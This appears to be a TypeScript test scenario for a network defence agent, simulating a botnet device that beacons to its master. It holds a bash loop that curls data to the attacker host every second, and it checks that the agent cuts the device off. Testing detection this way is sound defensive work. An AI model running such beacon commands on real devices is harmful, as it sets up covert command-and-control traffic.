/** A device that asks its master for orders, again and again. */
import type { Scenario } from '../scenario.ts';

export const scenario: Scenario = {
  group: 'attacks',
  awaits: 'a model bundle that sees it; cnn-lstm-7 does not within the time given',
  attack: 'botnet_beacon',
  expectation:
    'curl on the device posts a few bytes to one host outside every second: the device is kept from that host, or shut in.',
  honestClientVisits: 'neighbour',
  limitSeconds: 180,
  async run(field) {
    await field.startAgent();
    const { attacker: master, device } = field.network;
    await field.network.serve(master, 'web');
    field.expect('the device reaches its master before', await field.network.getsPage(device, master.address));
    const beacon = `while :; do curl -s -m 5 -d id=4711 -o /dev/null http://${master.address}/status; sleep 1; done`;
    const either = `${master.address}|${device.address}|${device.mac}`;
    await field.attackUntilRestricted(device, ['bash', '-c', beacon], either, {
      leg: 'lan0',
      isPattern: true,
      deadlineMs: 120_000,
    });
    const reaches = await field.network.getsPage(device, master.address);
    field.expect('the device no longer reaches its master', !reaches, reaches ? 'got the page' : 'got nothing');
  },
};
